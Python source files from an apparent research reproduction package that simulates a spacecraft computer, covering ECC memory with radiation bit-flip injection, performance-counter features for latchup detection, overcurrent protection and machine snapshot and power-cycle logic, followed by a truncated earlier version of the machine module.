        fixed, corrected, uncorrectable = ecc.decode_array(words, checks)
        if uncorrectable.any():
            bad = int(np.nonzero(uncorrectable)[0][0])
            self.stats.detected_errors += int(uncorrectable.sum())
            raise UncorrectableMemoryError(start + bad * _WORD)
        if corrected.any():
            # Write the corrected words (and fresh checks) back: scrubbing.
            idx = np.nonzero(corrected)[0]
            self.stats.corrected_errors += len(idx)
            words[idx] = fixed[idx]
            checks[idx] = ecc.encode_array(fixed[idx])
            for i in idx:
                self.stats.corrected_addresses.append(start + int(i) * _WORD)
                self._dirty_words.discard(first_word + int(i))
        return ecc.words_to_bytes(fixed)[addr - start : addr - start + n]

    def read_region(self, region: MemoryRegion) -> bytes:
        return self.read(region.addr, region.size)

    def write_region(self, region: MemoryRegion, data: bytes) -> None:
        if len(data) > region.size:
            raise InvalidAddressError(
                f"{len(data)} bytes do not fit region {region.label!r} "
                f"of size {region.size}"
            )
        self.write(region.addr, data)

    # ------------------------------------------------------------------
    # Fault domain (see repro.sim.faults)
    # ------------------------------------------------------------------
    def fault_census(self) -> "tuple[FaultRegion, ...]":
        """Live DRAM state: the allocated data bytes, plus — on an ECC
        device — the SECDED check bytes, one per allocated word (check
        storage is silicon too; particles do not skip it)."""
        protection = "secded" if self.has_ecc else "none"
        regions = [
            FaultRegion(
                "data", self._bump * 8, protection=protection, scope="shared"
            )
        ]
        if self.has_ecc:
            regions.append(
                FaultRegion(
                    "checks", (self._bump // _WORD) * 8,
                    protection="secded", scope="shared",
                )
            )
        return tuple(regions)

    def fault_strike(self, region: str, offset: int, bit: int) -> str:
        """``data`` offsets are byte addresses; ``checks`` offsets are
        word indices (one check byte per 64-bit word)."""
        if region == "data":
            if not 0 <= offset < self._bump:
                raise InvalidAddressError(
                    f"{self.name}: data offset {offset} outside the "
                    f"{self._bump} allocated bytes"
                )
            self.flip_bit(offset, bit & 7)
            return f"{self.name} data 0x{offset:x} bit {bit & 7}"
        if region == "checks":
            if not 0 <= offset < self._bump // _WORD:
                raise InvalidAddressError(
                    f"{self.name}: check word {offset} outside the "
                    f"{self._bump // _WORD} allocated words"
                )
            self.flip_check_bit(offset, bit)
            return f"{self.name} check word {offset} bit {bit & 7}"
        raise InvalidAddressError(f"{self.name}: no fault region {region!r}")

    # ------------------------------------------------------------------
    # Radiation interface
    # ------------------------------------------------------------------
    def flip_bit(self, addr: int, bit: int) -> None:
        """Flip one stored data bit *without* updating ECC (a particle hit)."""
        self._check_span(addr, 1)
        if not 0 <= bit < 8:
            raise InvalidAddressError(f"bit index {bit} out of range")
        self._data[addr] ^= 1 << bit
        self.stats.injected_flips += 1
        self._dirty_words.add(addr // _WORD)
        self._note_touch(addr + 1)

    def flip_check_bit(self, word_index: int, bit: int) -> None:
        """Flip one ECC check bit (particles hit check storage too)."""
        if self._checks is None:
            raise InvalidAddressError(f"{self.name} has no ECC check bits")
        if not 0 <= word_index < len(self._checks):
            raise InvalidAddressError(f"word index {word_index} out of range")
        self._checks[word_index] ^= 1 << (bit & 7)
        self.stats.injected_flips += 1
        self._dirty_words.add(word_index)
        self._note_touch((word_index + 1) * _WORD)

    def peek(self, addr: int, n: int) -> bytes:
        """Raw store contents, bypassing ECC (for tests and injectors)."""
        self._check_span(addr, n)
        return bytes(self._data[addr : addr + n])

    def scrub(self) -> int:
        """Read every allocated word to force correction; returns fixes."""
        before = self.stats.corrected_errors
        if self._bump:
            self.read(0, self._bump)
        return self.stats.corrected_errors - before

    # ------------------------------------------------------------------
    # Snapshot / restore
    # ------------------------------------------------------------------
    def snapshot(self) -> MemorySnapshot:
        """Capture the device's full logical state (see MemorySnapshot)."""
        hw = self._high_water
        return MemorySnapshot(
            size=self.size,
            has_ecc=self.has_ecc,
            high_water=hw,
            data=self._data[:hw].tobytes(),
            checks=(
                None
                if self._checks is None
                else self._checks[: hw // _WORD].tobytes()
            ),
            bump=self._bump,
            allocations=tuple(self._allocations),
            dirty_words=tuple(sorted(self._dirty_words)),
            stats=self.stats.copy(),
        )

    def restore(self, snap: MemorySnapshot) -> None:
        """Rewind to a snapshot taken from an identically-shaped device."""
        if snap.size != self.size or snap.has_ecc != self.has_ecc:
            raise AllocationError(
                f"{self.name}: snapshot shape ({snap.size}B, "
                f"ecc={snap.has_ecc}) does not match device "
                f"({self.size}B, ecc={self.has_ecc})"
            )
        hw = snap.high_water
        # Zero only the span this device touched beyond the snapshot's
        # high-water mark — the calloc tail past our own mark is
        # untouched, so a restore never faults in the full capacity.
        if self._high_water > hw:
            self._data[hw : self._high_water] = 0
            if self._checks is not None:
                self._checks[hw // _WORD : self._high_water // _WORD] = 0
        if hw:
            self._data[:hw] = np.frombuffer(snap.data, dtype=np.uint8)
            if self._checks is not None:
                self._checks[: hw // _WORD] = np.frombuffer(
                    snap.checks, dtype=np.uint8
                )
        self._high_water = hw
        self._bump = snap.bump
        self._allocations = list(snap.allocations)
        self._dirty_words = set(snap.dirty_words)
        self.stats = snap.stats.copy()

    def __repr__(self) -> str:
        kind = "ECC" if self.has_ecc else "non-ECC"
        return f"SimMemory({self.name!r}, {self.size}B, {kind})"
