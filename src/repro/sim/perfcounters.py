"""OS-visible performance counters (the Table 1 metric set).

ILD's whole premise is that userspace can *estimate* current draw from
counters Linux already exposes: per-core instruction completion rate,
branch miss rate, CPU frequency, bus cycle rate, cache hit rate, plus
disk read/write IO counts. This module fixes the feature layout used
everywhere (telemetry generation, model training, detection) and
provides adapters from the functional machine's raw PMU counts.
"""

from __future__ import annotations

from dataclasses import dataclass

import numpy as np

from ..errors import ConfigurationError
from .core import Core

#: The per-core metrics of Table 1, in canonical order.
PER_CORE_METRICS = (
    "instruction_rate",
    "branch_miss_rate",
    "cpu_freq",
    "bus_cycle_rate",
    "cache_hit_rate",
)

#: The global (non-per-core) metrics of Table 1.
GLOBAL_METRICS = ("disk_read_ios", "disk_write_ios")


def feature_names(n_cores: int) -> tuple:
    """Column names of the ILD feature matrix for an ``n_cores`` machine."""
    if n_cores <= 0:
        raise ConfigurationError("n_cores must be positive")
    names = [
        f"core{c}.{metric}" for c in range(n_cores) for metric in PER_CORE_METRICS
    ]
    names.extend(GLOBAL_METRICS)
    return tuple(names)


def n_features(n_cores: int) -> int:
    return n_cores * len(PER_CORE_METRICS) + len(GLOBAL_METRICS)


@dataclass
class CounterFrame:
    """One sampling interval's worth of Table 1 metrics.

    Per-core arrays have shape ``(n_ticks, n_cores)``; global arrays
    have shape ``(n_ticks,)``. Rates are per second; ``cpu_freq`` is in
    Hz; ``cache_hit_rate``/``branch_miss_rate`` are ratios in [0, 1];
    disk IO columns are IOs per second.
    """

    instruction_rate: np.ndarray
    branch_miss_rate: np.ndarray
    cpu_freq: np.ndarray
    bus_cycle_rate: np.ndarray
    cache_hit_rate: np.ndarray
    disk_read_ios: np.ndarray
    disk_write_ios: np.ndarray

    def __post_init__(self) -> None:
        shape = self.instruction_rate.shape
        for name in ("branch_miss_rate", "cpu_freq", "bus_cycle_rate", "cache_hit_rate"):
            if getattr(self, name).shape != shape:
                raise ConfigurationError(f"{name} shape {getattr(self, name).shape} != {shape}")
        for name in ("disk_read_ios", "disk_write_ios"):
            if getattr(self, name).shape != (shape[0],):
                raise ConfigurationError(f"{name} must have shape ({shape[0]},)")

    @property
    def n_ticks(self) -> int:
        return self.instruction_rate.shape[0]

    @property
    def n_cores(self) -> int:
        return self.instruction_rate.shape[1]

    def feature_matrix(self) -> np.ndarray:
        """Stack into the canonical ``(n_ticks, n_features)`` layout."""
        per_core = np.stack(
            [
                self.instruction_rate,
                self.branch_miss_rate,
                self.cpu_freq,
                self.bus_cycle_rate,
                self.cache_hit_rate,
            ],
            axis=2,
        )  # (ticks, cores, metrics)
        flat = per_core.reshape(self.n_ticks, -1)
        return np.concatenate(
            [flat, self.disk_read_ios[:, None], self.disk_write_ios[:, None]], axis=1
        )

    def total_utilization(self, max_rate_per_core: float) -> np.ndarray:
        """Aggregate CPU load proxy in [0, n_cores] used for quiescence."""
        if max_rate_per_core <= 0:
            raise ConfigurationError("max_rate_per_core must be positive")
        return self.instruction_rate.sum(axis=1) / max_rate_per_core

    def slice(self, mask: np.ndarray) -> "CounterFrame":
        return CounterFrame(
            self.instruction_rate[mask],
            self.branch_miss_rate[mask],
            self.cpu_freq[mask],
            self.bus_cycle_rate[mask],
            self.cache_hit_rate[mask],
            self.disk_read_ios[mask],
            self.disk_write_ios[mask],
        )

    @staticmethod
    def concatenate(frames: "list[CounterFrame]") -> "CounterFrame":
        if not frames:
            raise ConfigurationError("cannot concatenate zero frames")
        return CounterFrame(
            np.concatenate([f.instruction_rate for f in frames]),
            np.concatenate([f.branch_miss_rate for f in frames]),
            np.concatenate([f.cpu_freq for f in frames]),
            np.concatenate([f.bus_cycle_rate for f in frames]),
            np.concatenate([f.cache_hit_rate for f in frames]),
            np.concatenate([f.disk_read_ios for f in frames]),
            np.concatenate([f.disk_write_ios for f in frames]),
        )


class PerfCounterSampler:
    """Reads PMU deltas off functional-mode cores at intervals.

    Functional mode advances time in large discrete steps, so the
    sampler converts counter deltas over a span into the same per-second
    rates telemetry mode generates directly.
    """

    def __init__(self, cores: "list[Core]") -> None:
        if not cores:
            raise ConfigurationError("need at least one core")
        self._cores = cores
        self._snapshots = [core.counters.snapshot() for core in cores]
        self._disk_read_ios = 0
        self._disk_write_ios = 0

    def note_disk_ios(self, reads: int = 0, writes: int = 0) -> None:
        self._disk_read_ios += reads
        self._disk_write_ios += writes

    def sample(self, interval_seconds: float) -> CounterFrame:
        """Rates since the previous sample, attributed to one tick."""
        if interval_seconds <= 0:
            raise ConfigurationError("interval must be positive")
        n = len(self._cores)
        instr = np.zeros((1, n))
        miss = np.zeros((1, n))
        freq = np.zeros((1, n))
        bus = np.zeros((1, n))
        hit = np.zeros((1, n))
        for i, core in enumerate(self._cores):
            delta = core.counters.delta(self._snapshots[i])
            self._snapshots[i] = core.counters.snapshot()
            instr[0, i] = delta.instructions / interval_seconds
            bus[0, i] = delta.bus_cycles / interval_seconds
            freq[0, i] = core.freq
            miss[0, i] = (
                delta.branch_misses / delta.branches if delta.branches else 0.0
            )
            hit[0, i] = (
                delta.cache_hits / delta.cache_references
                if delta.cache_references
                else 1.0
            )
        reads = np.array([self._disk_read_ios / interval_seconds])
        writes = np.array([self._disk_write_ios / interval_seconds])
        self._disk_read_ios = 0
        self._disk_write_ios = 0
        return CounterFrame(instr, miss, freq, bus, hit, reads, writes)
