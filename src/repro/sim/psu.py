"""Power-supply overcurrent protection (OCP).

§3.1: "Larger current spikes on the order of 1 A are already addressed
by additional thresholding circuitry available on most modern
spacecraft power supplies" — classic latchup protection [28, 74]. The
breaker watches the rail and power-cycles the load when current stays
above a (high) threshold for longer than a blanking interval.

This is the complement ILD needs: OCP handles the amp-class classic
SELs instantly; ILD exists for the 0.07 A micro-SELs OCP cannot see.
The division of labour is itself testable — see the mission simulator,
which routes big SELs to OCP and small ones to ILD.
"""

from __future__ import annotations

from dataclasses import dataclass

import numpy as np

from ..errors import ConfigurationError
from .telemetry import TelemetryTrace


@dataclass(frozen=True)
class OcpConfig:
    """Breaker parameters (per the SmallSat EPS datasheets [74])."""

    trip_threshold_amps: float = 5.5
    blanking_seconds: float = 0.05  # ride-through for inrush/transients

    def __post_init__(self) -> None:
        if self.trip_threshold_amps <= 0 or self.blanking_seconds < 0:
            raise ConfigurationError("OCP parameters must be positive")


@dataclass(frozen=True)
class OcpTrip:
    """One breaker actuation."""

    time: float
    current_amps: float


class OvercurrentProtection:
    """Threshold breaker over telemetry current streams."""

    def __init__(self, config: "OcpConfig | None" = None) -> None:
        self.config = config or OcpConfig()
        self.trips: "list[OcpTrip]" = []

    def would_trip_on(self, delta_amps: float, baseline_amps: float) -> bool:
        """Whether a persistent step of ``delta_amps`` on top of a
        baseline is inside this breaker's reach (the classic-SEL case)."""
        return baseline_amps + delta_amps >= self.config.trip_threshold_amps

    def scan(self, trace: TelemetryTrace) -> "list[OcpTrip]":
        """Find breaker actuations in one telemetry chunk.

        Uses the *fine* sensor samples: the breaker is analog and does
        not wait for the 1 ms metric tick.
        """
        cfg = self.config
        samples = trace.fine_samples
        sample_period = trace.config.tick / trace.config.samples_per_tick
        window = max(1, int(round(cfg.blanking_seconds / sample_period)))
        over = samples >= cfg.trip_threshold_amps
        if window > 1 and len(over) >= window:
            kernel = np.ones(window, dtype=int)
            sustained = np.convolve(over.astype(int), kernel, mode="valid") == window
            sustained = np.concatenate(
                [np.zeros(window - 1, dtype=bool), sustained]
            )
        else:
            sustained = over
        onsets = np.nonzero(sustained & ~np.concatenate([[False], sustained[:-1]]))[0]
        trips = [
            OcpTrip(
                time=trace.start_time + index * sample_period,
                current_amps=float(samples[index]),
            )
            for index in onsets
        ]
        self.trips.extend(trips)
        return trips
