"""The simulated spacecraft computer.

Composes cores, the cache hierarchy, DRAM, flash, the power model and
the current sensor into one device with the two lifecycle operations
the paper cares about:

* ``reboot()`` — restarts software. **Does not** clear an SEL ("reboots
  may not completely clear out the SEL's residual charge", §2.1).
* ``power_cycle()`` — drops power entirely; clears SELs and all
  volatile state. This is what ILD triggers on detection.

Two stock configurations mirror the paper's deployments:
:meth:`Machine.rpi_zero2w` (the LEO SmallSat / ground SEL testbed, ECC
DRAM absent on the real part but the SEL experiments don't need DRAM
content) and :meth:`Machine.snapdragon801` (the Mars coprocessor:
no ECC DRAM, so EMR's reliability frontier falls back to storage).
"""

from __future__ import annotations

import copy
import hashlib
from dataclasses import dataclass, field, fields, is_dataclass

import numpy as np

from ..errors import ConfigurationError, SimulationError
from .cache import AccessTrace, CacheHierarchy, HierarchySnapshot
from .clock import SimClock
from .core import Core, CoreGroup, CoreSnapshot, CoreSpec
from .dvfs import OndemandGovernor
from .faults import FaultSurface
from .memory import MemorySnapshot, SimMemory
from .power import EnergyMeter, PowerModel, PowerModelParams
from .sensor import CurrentSensor, SensorParams
from .storage import FlashStorage, StorageSnapshot


@dataclass(frozen=True)
class MachineSpec:
    """Static configuration of a simulated spacecraft computer."""

    name: str = "generic-soc"
    n_cores: int = 4
    dram_size: int = 64 << 20
    dram_ecc: bool = True
    l1_lines: int = 512
    l2_lines: int = 8192
    line_size: int = 64
    #: SECDED-protected cache SRAM (rare on commodity parts; when
    #: present, EMR reverts to plain parallel 3-MR, §3.2).
    cache_ecc: bool = False
    core_spec: CoreSpec = field(default_factory=CoreSpec)
    power_params: PowerModelParams = field(default_factory=PowerModelParams)
    sensor_params: SensorParams = field(default_factory=SensorParams)
    flash_capacity: int = 64 << 20
    reboot_seconds: float = 24.0
    power_cycle_seconds: float = 31.0

    def __post_init__(self) -> None:
        if self.n_cores <= 0:
            raise ConfigurationError("n_cores must be positive")


@dataclass(frozen=True)
class MachineSnapshot:
    """Complete dynamic state of a :class:`Machine` at one instant.

    Pure data (dataclasses, bytes, plain scalars): picklable into
    worker processes and hashable into a :meth:`Machine.state_digest`.
    The power model, sensor, governor and energy meter carry no
    dynamic state — they are functions of the spec — so the spec entry
    covers them. ``attached`` holds the snapshots of components
    registered via :meth:`Machine.attach` (e.g. the latchup injector's
    active-event list).
    """

    spec: MachineSpec
    rng_state: dict
    clock_now: float
    cores: "tuple[CoreSnapshot, ...]"
    memory: MemorySnapshot
    caches: HierarchySnapshot
    storage: StorageSnapshot
    extra_current_draw: float
    reboots: int
    power_cycles: int
    attached: "tuple[tuple[str, object], ...]" = ()


def _digest_update(h, value) -> None:
    """Feed ``value`` into ``h`` canonically.

    Containers are framed, dict keys sorted, floats hashed by repr
    (exact round-trip), numpy arrays by raw bytes — so equal logical
    state always produces equal digests, across processes.
    """
    if value is None:
        h.update(b"N")
    elif isinstance(value, bool):
        h.update(b"T" if value else b"F")
    elif isinstance(value, (int, np.integer)):
        h.update(b"i%d;" % int(value))
    elif isinstance(value, (float, np.floating)):
        h.update(b"f" + repr(float(value)).encode() + b";")
    elif isinstance(value, str):
        raw = value.encode("utf-8")
        h.update(b"s%d:" % len(raw) + raw)
    elif isinstance(value, bytes):
        h.update(b"b%d:" % len(value) + value)
    elif isinstance(value, np.ndarray):
        h.update(b"a" + str(value.dtype).encode() + b":" + value.tobytes())
    elif isinstance(value, (tuple, list)):
        h.update(b"(")
        for item in value:
            _digest_update(h, item)
        h.update(b")")
    elif isinstance(value, dict):
        h.update(b"{")
        for key in sorted(value):
            _digest_update(h, key)
            _digest_update(h, value[key])
        h.update(b"}")
    elif is_dataclass(value):
        h.update(b"d" + type(value).__name__.encode() + b"<")
        for f in fields(value):
            _digest_update(h, getattr(value, f.name))
        h.update(b">")
    else:
        raise ConfigurationError(
            f"cannot digest state of type {type(value).__name__}"
        )


class Machine:
    """A running instance of :class:`MachineSpec`."""

    def __init__(self, spec: "MachineSpec | None" = None, seed: int = 0) -> None:
        self.spec = spec or MachineSpec()
        self.rng = np.random.default_rng(seed)
        self.clock = SimClock()
        self.cores = [Core(i, self.spec.core_spec) for i in range(self.spec.n_cores)]
        self.memory = SimMemory(self.spec.dram_size, ecc=self.spec.dram_ecc)
        self.caches = CacheHierarchy(
            self.memory,
            n_groups=self.spec.n_cores,
            l1_lines=self.spec.l1_lines,
            l2_lines=self.spec.l2_lines,
            line_size=self.spec.line_size,
            ecc=self.spec.cache_ecc,
        )
        self.storage = FlashStorage(capacity=self.spec.flash_capacity)
        self.power_model = PowerModel(
            self.spec.power_params, max_freq=self.spec.core_spec.max_freq
        )
        self.energy_meter = EnergyMeter(self.power_model)
        self.sensor = CurrentSensor(self.spec.sensor_params)
        self.governor = OndemandGovernor(self.spec.core_spec)
        #: Persistent current added by active latchups (amps). Owned by
        #: :mod:`repro.radiation.sel`, read by telemetry/power paths.
        self.extra_current_draw = 0.0
        self.reboots = 0
        self.power_cycles = 0
        self._power_cycle_hooks: list = []
        self._reboot_hooks: list = []
        self._attached: "dict[str, object]" = {}
        #: The machine-wide fault surface: every stateful component,
        #: registered under a stable name. The surface holds references
        #: only — its census is computed live, so no snapshot/restore
        #: plumbing is needed. Software domains (the ILD detector, the
        #: flight event log) register here when the stack comes up.
        self.fault_surface = FaultSurface()
        self.fault_surface.register("dram", self.memory)
        for g, l1 in enumerate(self.caches.l1):
            self.fault_surface.register(f"l1[{g}]", l1)
        self.fault_surface.register("l2", self.caches.l2)
        self.fault_surface.register("flash", self.storage)
        for core in self.cores:
            self.fault_surface.register(f"core{core.core_id}", core)
        self.clock.on_reset(self._pending_state)

    # ------------------------------------------------------------------
    # Topology
    # ------------------------------------------------------------------
    @property
    def n_cores(self) -> int:
        return self.spec.n_cores

    def default_core_groups(self, n_executors: int) -> "list[CoreGroup]":
        """One single-core group per executor (the paper's layout)."""
        if n_executors > self.n_cores:
            raise ConfigurationError(
                f"{n_executors} executors need {n_executors} cores; "
                f"machine has {self.n_cores}"
            )
        return [CoreGroup(i, (i,)) for i in range(n_executors)]

    # ------------------------------------------------------------------
    # Memory access helpers (used by EMR executors)
    # ------------------------------------------------------------------
    def read_via_cache(self, addr: int, n: int, group: int) -> "tuple[bytes, AccessTrace]":
        return self.caches.read(addr, n, group)

    def write_via_cache(self, addr: int, data: bytes, group: int) -> AccessTrace:
        return self.caches.write(addr, data, group)

    # ------------------------------------------------------------------
    # Snapshot / restore
    # ------------------------------------------------------------------
    def attach(self, name: str, component) -> None:
        """Register a stateful component (e.g. a latchup injector) so
        its state rides along with :meth:`snapshot`/:meth:`restore`.

        The component must expose ``snapshot()`` and ``restore(state)``.
        """
        if not (hasattr(component, "snapshot") and hasattr(component, "restore")):
            raise ConfigurationError(
                f"attached component {name!r} needs snapshot()/restore()"
            )
        if name in self._attached:
            raise ConfigurationError(f"component {name!r} already attached")
        self._attached[name] = component

    def _pending_state(self) -> "str | None":
        """Reset-guard summary of live component state (see SimClock)."""
        issues = []
        resident = sum(len(c) for c in (*self.caches.l1, self.caches.l2))
        if resident:
            issues.append(f"{resident} resident cache lines")
        if self.memory.allocated_bytes:
            issues.append(f"{self.memory.allocated_bytes}B DRAM allocated")
        if self.storage.cached_files:
            issues.append(f"{len(self.storage.cached_files)} cached flash pages")
        if self.extra_current_draw:
            issues.append(f"{self.extra_current_draw:.3f}A latchup draw")
        return "; ".join(issues) or None

    def snapshot(self) -> MachineSnapshot:
        """Capture every piece of dynamic state — clock, cores, caches,
        DRAM, flash, RNG, SEL current draw and attached components —
        as pure, picklable data."""
        return MachineSnapshot(
            spec=self.spec,
            rng_state=copy.deepcopy(self.rng.bit_generator.state),
            clock_now=self.clock.now,
            cores=tuple(core.snapshot() for core in self.cores),
            memory=self.memory.snapshot(),
            caches=self.caches.snapshot(),
            storage=self.storage.snapshot(),
            extra_current_draw=self.extra_current_draw,
            reboots=self.reboots,
            power_cycles=self.power_cycles,
            attached=tuple(
                (name, component.snapshot())
                for name, component in sorted(self._attached.items())
            ),
        )

    def restore(self, snap: MachineSnapshot) -> None:
        """Rewind this machine — in place, hooks intact — to ``snap``.

        The snapshot must come from a machine with an identical spec,
        and the set of attached components must match the snapshot's
        (their state is restored too; silently dropping either side
        would leave e.g. latchup current and injector bookkeeping
        contradicting each other).
        """
        if snap.spec != self.spec:
            raise ConfigurationError(
                f"snapshot of {snap.spec.name!r} cannot restore a "
                f"{self.spec.name!r} machine"
            )
        snap_names = [name for name, _ in snap.attached]
        if snap_names != sorted(self._attached):
            raise SimulationError(
                f"snapshot carries attached components {snap_names}, "
                f"machine has {sorted(self._attached)}"
            )
        self.rng.bit_generator.state = copy.deepcopy(snap.rng_state)
        self.clock.reset(snap.clock_now, force=True)
        for core, core_snap in zip(self.cores, snap.cores):
            core.restore(core_snap)
        self.memory.restore(snap.memory)
        self.caches.restore(snap.caches)
        self.storage.restore(snap.storage)
        self.extra_current_draw = snap.extra_current_draw
        self.reboots = snap.reboots
        self.power_cycles = snap.power_cycles
        for name, state in snap.attached:
            self._attached[name].restore(state)

    @classmethod
    def from_snapshot(cls, snap: MachineSnapshot) -> "Machine":
        """A fresh machine materialised from a snapshot.

        Only detached snapshots qualify: attached components (latchup
        injectors) hold references to *their* machine and cannot be
        conjured here — build the machine, re-attach components, then
        :meth:`restore`.
        """
        if snap.attached:
            raise SimulationError(
                "snapshot carries attached-component state "
                f"({[name for name, _ in snap.attached]}); materialise "
                "the machine first, attach components, then restore()"
            )
        machine = cls(snap.spec)
        machine.restore(snap)
        return machine

    def state_digest(self) -> str:
        """SHA-256 over the canonical encoding of :meth:`snapshot` —
        equal digests iff equal logical machine state."""
        h = hashlib.sha256()
        _digest_update(h, self.snapshot())
        return h.hexdigest()

    # ------------------------------------------------------------------
    # Lifecycle
    # ------------------------------------------------------------------
    def on_power_cycle(self, hook) -> None:
        """Register a callable invoked (with this machine) on power cycle."""
        self._power_cycle_hooks.append(hook)

    def on_reboot(self, hook) -> None:
        """Register a callable invoked (with this machine) on every
        reboot — including the one inside a power cycle. Watchdogs and
        supervisors observe restarts through this."""
        self._reboot_hooks.append(hook)

    @staticmethod
    def _dispatch_hooks(hooks, machine, what: str) -> None:
        """Run every hook even if some raise; re-raise afterwards.

        A raising hook must not starve the hooks behind it — on a
        power cycle those hooks are what reconcile latchup bookkeeping
        with ``extra_current_draw``, and skipping them would leave the
        machine drawing phantom current. The first exception is
        re-raised once all hooks have run (any further ones ride along
        as a note in the message).
        """
        errors: "list[BaseException]" = []
        for hook in list(hooks):
            try:
                hook(machine)
            except Exception as exc:  # noqa: BLE001 - re-raised below
                errors.append(exc)
        if errors:
            if len(errors) > 1:
                raise SimulationError(
                    f"{len(errors)} {what} hooks failed: "
                    + "; ".join(f"{type(e).__name__}: {e}" for e in errors)
                ) from errors[0]
            raise errors[0]

    def reboot(self) -> float:
        """Software restart: caches and latched pipeline faults clear,
        but an active SEL's residual charge — and its current draw —
        survives. Returns the downtime in seconds."""
        self.caches.flush_all()
        self.storage.drop_page_cache()
        for core in self.cores:
            core.reset_faults()
            core.freq = self.spec.core_spec.min_freq
        self.clock.advance(self.spec.reboot_seconds)
        self.reboots += 1
        self._dispatch_hooks(self._reboot_hooks, self, "reboot")
        return self.spec.reboot_seconds

    def power_cycle(self) -> float:
        """Full power removal: everything a reboot does, plus clearing
        SEL residual charge (via registered hooks). Returns downtime."""
        downtime = self.spec.power_cycle_seconds - self.spec.reboot_seconds
        self.reboot()
        self.reboots -= 1  # the reboot above was part of the power cycle
        self.clock.advance(max(0.0, downtime))
        self.power_cycles += 1
        self._dispatch_hooks(self._power_cycle_hooks, self, "power-cycle")
        return self.spec.power_cycle_seconds

    # ------------------------------------------------------------------
    # Power
    # ------------------------------------------------------------------
    def instantaneous_current(self) -> float:
        """True board current right now, from core state + SEL draw."""
        util = np.array([1.0 if c.busy_seconds else 0.0 for c in self.cores])
        freq = np.array([c.freq for c in self.cores])
        return float(
            self.power_model.board_current(util * 0.0, freq)
        ) + self.extra_current_draw

    def quiescent_current(self) -> float:
        return self.power_model.quiescent_current(
            self.n_cores, self.spec.core_spec.min_freq
        )

    # ------------------------------------------------------------------
    # Stock configurations
    # ------------------------------------------------------------------
    @classmethod
    def rpi_zero2w(cls, seed: int = 0) -> "Machine":
        """The paper's ground SEL testbed and LEO SmallSat computer."""
        spec = MachineSpec(
            name="raspberry-pi-zero-2w",
            n_cores=4,
            dram_size=48 << 20,
            dram_ecc=True,
            l1_lines=512,
            l2_lines=8192,
        )
        return cls(spec, seed=seed)

    @classmethod
    def snapdragon801(cls, seed: int = 0) -> "Machine":
        """The Mars-rover coprocessor: commodity SoC without ECC DRAM,
        pushing EMR's reliability frontier out to flash storage."""
        spec = MachineSpec(
            name="snapdragon-801",
            n_cores=4,
            dram_size=96 << 20,
            dram_ecc=False,
            l1_lines=512,
            l2_lines=16384,
            core_spec=CoreSpec(
                base_ipc=1.6,
                freq_levels=tuple(800e6 + 200e6 * i for i in range(9)),
            ),
        )
        return cls(spec, seed=seed)

    def __repr__(self) -> str:
        return (
            f"Machine({self.spec.name!r}, {self.n_cores} cores, "
            f"DRAM {'ECC' if self.spec.dram_ecc else 'no-ECC'}, "
            f"t={self.clock.now:.3f}s)"
        )


class SnapshotFactory:
    """A machine factory that stamps out clones of a template state.

    The base factory runs once (optionally followed by a ``warm``
    callable that stages inputs, trains state, etc.); every call then
    materialises an identical fresh machine from the captured
    snapshot. Because the factory is plain data it pickles into
    :func:`repro.parallel.pmap` workers, so campaign trials can share
    one warmed template instead of re-deriving it per trial.
    """

    def __init__(self, base_factory=None, warm=None) -> None:
        machine = (base_factory or Machine.rpi_zero2w)()
        if warm is not None:
            warm(machine)
        self.snapshot = machine.snapshot()

    def __call__(self) -> Machine:
        return Machine.from_snapshot(self.snapshot)
