"""The simulated spacecraft computer.

Composes cores, the cache hierarchy, DRAM, flash, the power model and
the current sensor into one device with the two lifecycle operations
the paper cares about:

* ``reboot()`` — restarts software. **Does not** clear an SEL ("reboots
  may not completely clear out the SEL's residual charge", §2.1).
* ``power_cycle()`` — drops power entirely; clears SELs and all
  volatile state. This is what ILD triggers on detection.

Two stock configurations mirror the paper's deployments:
:meth:`Machine.rpi_zero2w` (the LEO SmallSat / ground SEL testbed, ECC
DRAM absent on the real part but the SEL experiments don't need DRAM
content) and :meth:`Machine.snapdragon801` (the Mars coprocessor:
no ECC DRAM, so EMR's reliability frontier falls back to storage).
"""

from __future__ import annotations

from dataclasses import dataclass, field

import numpy as np

from ..errors import ConfigurationError
from .cache import AccessTrace, CacheHierarchy
from .clock import SimClock
from .core import Core, CoreGroup, CoreSpec
from .dvfs import OndemandGovernor
from .memory import SimMemory
from .power import EnergyMeter, PowerModel, PowerModelParams
from .sensor import CurrentSensor, SensorParams
from .storage import FlashStorage


@dataclass(frozen=True)
class MachineSpec:
    """Static configuration of a simulated spacecraft computer."""

    name: str = "generic-soc"
    n_cores: int = 4
    dram_size: int = 64 << 20
    dram_ecc: bool = True
    l1_lines: int = 512
    l2_lines: int = 8192
    line_size: int = 64
    #: SECDED-protected cache SRAM (rare on commodity parts; when
    #: present, EMR reverts to plain parallel 3-MR, §3.2).
    cache_ecc: bool = False
    core_spec: CoreSpec = field(default_factory=CoreSpec)
    power_params: PowerModelParams = field(default_factory=PowerModelParams)
    sensor_params: SensorParams = field(default_factory=SensorParams)
    flash_capacity: int = 64 << 20
    reboot_seconds: float = 24.0
    power_cycle_seconds: float = 31.0

    def __post_init__(self) -> None:
        if self.n_cores <= 0:
            raise ConfigurationError("n_cores must be positive")


class Machine:
    """A running instance of :class:`MachineSpec`."""

    def __init__(self, spec: "MachineSpec | None" = None, seed: int = 0) -> None:
        self.spec = spec or MachineSpec()
        self.rng = np.random.default_rng(seed)
        self.clock = SimClock()
        self.cores = [Core(i, self.spec.core_spec) for i in range(self.spec.n_cores)]
        self.memory = SimMemory(self.spec.dram_size, ecc=self.spec.dram_ecc)
        self.caches = CacheHierarchy(
            self.memory,
            n_groups=self.spec.n_cores,
            l1_lines=self.spec.l1_lines,
            l2_lines=self.spec.l2_lines,
            line_size=self.spec.line_size,
            ecc=self.spec.cache_ecc,
        )
        self.storage = FlashStorage(capacity=self.spec.flash_capacity)
        self.power_model = PowerModel(
            self.spec.power_params, max_freq=self.spec.core_spec.max_freq
        )
        self.energy_meter = EnergyMeter(self.power_model)
        self.sensor = CurrentSensor(self.spec.sensor_params)
        self.governor = OndemandGovernor(self.spec.core_spec)
        #: Persistent current added by active latchups (amps). Owned by
        #: :mod:`repro.radiation.sel`, read by telemetry/power paths.
        self.extra_current_draw = 0.0
        self.reboots = 0
        self.power_cycles = 0
        self._power_cycle_hooks: list = []

    # ------------------------------------------------------------------
    # Topology
    # ------------------------------------------------------------------
    @property
    def n_cores(self) -> int:
        return self.spec.n_cores

    def default_core_groups(self, n_executors: int) -> "list[CoreGroup]":
        """One single-core group per executor (the paper's layout)."""
        if n_executors > self.n_cores:
            raise ConfigurationError(
